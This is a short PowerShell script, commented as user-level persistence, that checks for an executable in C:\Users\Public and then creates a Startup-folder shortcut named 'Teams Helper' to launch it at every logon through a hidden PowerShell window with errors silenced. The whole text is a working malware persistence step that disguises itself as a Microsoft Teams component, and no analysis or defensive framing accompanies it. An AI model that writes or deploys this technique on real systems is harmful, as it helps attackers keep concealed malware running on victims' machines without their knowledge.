# user-level persistence, no admin needed
$ErrorActionPreference = 'SilentlyContinue'
if (-not (Test-Path -Path 'C:\Users\Public\th.exe')) {
    exit
}
$startup = [Environment]::GetFolderPath('Startup')
$shell = New-Object -ComObject WScript.Shell
$lnk = $shell.CreateShortcut("$startup\Teams Helper.lnk")
$lnk.TargetPath = 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
$lnk.Arguments = '-w hidden -nop -c "Start-Process C:\Users\Public\th.exe"'
$lnk.WindowStyle = 7
$lnk.Save()
